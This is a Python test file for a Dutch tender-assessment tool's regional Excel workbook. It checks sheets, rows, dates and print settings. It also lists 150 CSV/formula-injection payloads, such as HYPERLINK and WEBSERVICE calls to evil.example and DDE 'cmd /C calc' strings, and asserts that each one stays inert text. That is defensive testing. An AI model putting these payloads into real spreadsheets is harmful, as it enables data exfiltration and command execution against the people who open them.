"""The workbook of a region: what stands in it, text that stays text, the same bytes twice, and it opens elsewhere."""

import dataclasses
import datetime as dt
import io
import shutil
import subprocess
import zipfile
import zlib
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from main_job import Job, digests_elsewhere
from openpyxl import Workbook, load_workbook
from result_sample import HEAD, changed_texts, sample

from checklist.finding import Result
from reports.agenda import lanes
from reports.receipt import run_id
from reports.sheet import sheets
from reports.spreadsheet import Column, Table, spreadsheet
from reports.workbook import region_workbook

REGION = "nijmegen"
NAMES = ["Lees mij", "Documenten", "Criteria", "Bevindingen", "Berichten"]
STARTS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "\u200b=", "\ufeff=", "＝", "﹢", "|")
BODIES = (
    'HYPERLINK("http://evil.example/?x="&A1,"klik")', "cmd|' /C calc'!A0", "1+1", 'WEBSERVICE("http://evil.example")', "SUM(A1:A9)",
    "DDE(\"cmd\";\"/C calc\";\"x\")", "IMPORTXML(\"http://evil.example\",\"//a\")", "2-3", "{1,2}", "http://evil.example",
)  # fmt: skip
PAYLOADS = tuple(start + body for start in STARTS for body in BODIES)
"""150 ways to begin a cell."""


def opened(content: bytes) -> Workbook:
    return load_workbook(io.BytesIO(content))


def rows(book: Workbook, name: str) -> list[dict[str, Any]]:
    """Every row of a sheet by the heads of its columns."""
    head, *found = book[name].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in found]


BOOK = opened(region_workbook(sample(), REGION, head=HEAD))
SHEETS = sheets(sample(), REGION)


def test_the_sheets_are_there_in_their_order() -> None:
    assert BOOK.sheetnames == NAMES


def test_every_bid_and_document_has_a_row_with_words() -> None:
    found = rows(BOOK, "Documenten")
    assert [(row["Inschrijver"], row["Code"]) for row in found] == [
        (sheet.bid.name, view.row.rule) for sheet in SHEETS for view in sheet.documents
    ]
    assert all(row["Oordeel"] and row["Toelichting"] for row in found)
    late = next(row for row in found if row["Inschrijver"] == "De Berk Cliëntondersteuning B.V." and row["Code"] == "D04")
    assert late["Oordeel"] == "✗ voldoet niet"
    assert late["Reden"] == "te oud"
    assert late["KvK-nummer"] == "02345678"
    assert "1. KvK en UBO.pdf" in late["Bestand"] or late["Bestand"] == "KvK en UBO.pdf"


def test_every_criterion_has_its_best_passage_and_room_for_each_assessor() -> None:
    found = rows(BOOK, "Criteria")
    views = [view for sheet in SHEETS for view in sheet.criteria]
    assert len(found) == len(views)
    for row, view in zip(found, views, strict=True):
        assert row["Bladzijde"] == (view.places[0].page if view.places else None)
        assert bool(row["Beste passage"]) == bool(view.places)
        assert all(row[f"Beoordelaar {number}: {what}"] is None for number in (1, 2) for what in ("score", "motivatie", "naam"))


def test_every_open_point_has_a_row_with_its_lane() -> None:
    found = rows(BOOK, "Bevindingen")
    points = [row for row in found if row["Document"] == "Aandachtspunt"]
    assert len(points) == sum(len(sheet.points) for sheet in SHEETS)
    assert {row["Wat mag u nog vragen"] for row in points} == {"Aandachtspunt: nooit een grond voor afwijzing"}
    here = lanes(SHEETS)
    assert len(found) - len(points) == sum(len(one.bids) for lane in (here.closed, here.askable, here.other) for one in lane)
    closed = [row for row in found if row["Wat mag u nog vragen"].startswith("Verplicht")]
    assert len(closed) == sum(len(one.bids) for one in here.closed)
    assert [row["Inschrijver"] for row in found] == sorted((row["Inschrijver"] for row in found), key=[s.bid.name for s in SHEETS].index)


def test_messages_have_real_dates_in_dutch_time() -> None:
    found = rows(BOOK, "Berichten")
    berk = next(row for row in found if row["Onderwerp"] == "Betere versie bestuursverklaring")
    assert berk["Ontvangen (Nederlandse tijd)"] == dt.datetime(2026, 7, 31, 16, 59, 30)  # noqa: DTZ001
    assert "d mmmm yyyy" in BOOK["Berichten"]["A2"].number_format
    assert {row["Inschrijver"] for row in found} >= {"(bij geen inschrijver)"}


def test_a_moment_that_is_not_known_is_said_in_words() -> None:
    found = rows(opened(region_workbook(sample(), "waardenland", head=HEAD)), "Berichten")
    assert "tijdstip onbekend" in {row["Ontvangen (Nederlandse tijd)"] for row in found}


def test_the_first_sheet_holds_the_receipt_and_what_is_not_said() -> None:
    told = {str(label): str(words) for label, words in BOOK["Lees mij"].iter_rows(values_only=True)}
    assert told["Kop van het register"] == HEAD
    assert told["Run"] == run_id(sample().receipt)
    assert told["Regels (sha256)"] == sample().receipt.round_sha256
    assert told["Let op: niet volledig"].startswith("Niet alles kon worden gelezen")
    lines = [str(words) for _, words in BOOK["Lees mij"].iter_rows(values_only=True)]
    assert set(sample().procedure.unstated) <= set(lines)


def test_a_table_can_be_walked_filtered_and_printed() -> None:
    for name in NAMES[1:]:
        sheet = BOOK[name]
        assert sheet.freeze_panes == "B2"
        assert sheet.auto_filter.ref
        assert sheet.print_title_rows == "$1:$1"
        assert HEAD in sheet.oddFooter.left.text
        assert sheet["A2"].alignment.wrap_text
        assert all(sheet.row_dimensions[row].height <= 409 for row in range(2, sheet.max_row + 1))


def test_a_region_without_bids_has_a_workbook_too() -> None:
    book = opened(region_workbook(sample(), "midden-brabant", head=HEAD))
    assert book.sheetnames == NAMES
    assert rows(book, "Documenten") == []


def attacked(offset: int) -> Result:
    """The sample with a payload before every text; the same before the same text, so that references still meet."""
    result: Result = changed_texts(
        sample(), lambda text: PAYLOADS[(zlib.crc32(text.encode("utf-8", "surrogatepass")) + offset) % 150] + text
    )
    return result


@pytest.mark.parametrize("offset", range(0, 150, 15))
def test_text_never_becomes_a_formula_or_a_link(offset: int) -> None:
    result = attacked(offset)
    content = region_workbook(result, result.procedure.regions[0].id, head=HEAD)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "/worksheets/_rels" in name or "calcChain" in name]
        for name in archive.namelist():
            tags = {etree.QName(element).localname for element in etree.fromstring(archive.read(name)).iter()}
            assert not tags & {"f", "hyperlink", "hyperlinks", "ddeLink", "oleLink", "formula"}, name
            assert b"TargetMode" not in archive.read(name)
    assert not [cell for sheet in opened(content) for row in sheet.iter_rows() for cell in row if cell.data_type == "f" or cell.hyperlink]


def test_each_of_the_payloads_comes_back_as_the_text_it_is() -> None:
    table = Table(name="Proef", columns=(Column(title="A", wide=40),), rows=tuple((payload,) for payload in PAYLOADS))
    sheet = opened(spreadsheet((table,), title="=1+1 & meer", footer="=2+2 &P"))["Proef"]
    assert len(PAYLOADS) == 150
    for (cell,), payload in zip(sheet.iter_rows(min_row=2), PAYLOADS, strict=True):
        assert cell.data_type == "s"
        assert cell.quotePrefix
        shown = payload.replace("\u200b", "‹U+200B›").replace("\ufeff", "‹U+FEFF›")
        assert cell.value == " ".join(shown.split())


def test_the_same_result_gives_the_same_bytes_in_another_zone_and_locale() -> None:
    assert len(digests_elsewhere("test_reports_workbook", "region_workbook(sample(), REGION, head=HEAD)")) == 1


def test_every_region_of_the_main_job_has_a_workbook_beside_its_report(job: Job) -> None:
    for page in job.folder.glob("regios/*/rapport.html"):
        book = load_workbook(page.with_suffix(".xlsx"))
        region = page.parent.name
        bids = [row["bid"] for row in job.result["assessments"] if row["region"] == region]
        assert len({row["Inschrijver"] for row in rows(book, "Documenten")}) == len(bids)


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not here")
def test_libreoffice_opens_it_and_finds_the_same_text(tmp_path: Path) -> None:
    result = attacked(0)
    content = region_workbook(result, result.procedure.regions[0].id, head=HEAD)
    (tmp_path / "in.xlsx").write_bytes(content)
    profile = f"-env:UserInstallation=file://{tmp_path}/profiel"
    command = [
        "soffice",
        profile,
        "--headless",
        "--convert-to",
        "xlsx:Calc MS Excel 2007 XML",
        "--outdir",
        tmp_path / "uit",
        tmp_path / "in.xlsx",
    ]
    done = subprocess.run(command, capture_output=True, text=True, timeout=120)
    again = load_workbook(tmp_path / "uit" / "in.xlsx")
    before = opened(content)
    assert again.sheetnames == NAMES, done.stderr
    for name in NAMES:
        for row in before[name].iter_rows():
            for cell in row:
                other = again[name][cell.coordinate]
                assert other.data_type != "f"
                assert (other.value or "") == (cell.value or ""), cell.coordinate


@pytest.mark.parametrize("nothing", ["", " ", "\u200b"])
def test_bids_without_a_name_have_a_workbook_too(nothing: str) -> None:
    nameless = tuple(dataclasses.replace(bid, name=nothing, kvk_number=nothing) for bid in sample().bids)
    book = opened(region_workbook(dataclasses.replace(sample(), bids=nameless), REGION, head=HEAD))
    assert len(rows(book, "Documenten")) == sum(len(sheet.documents) for sheet in SHEETS)
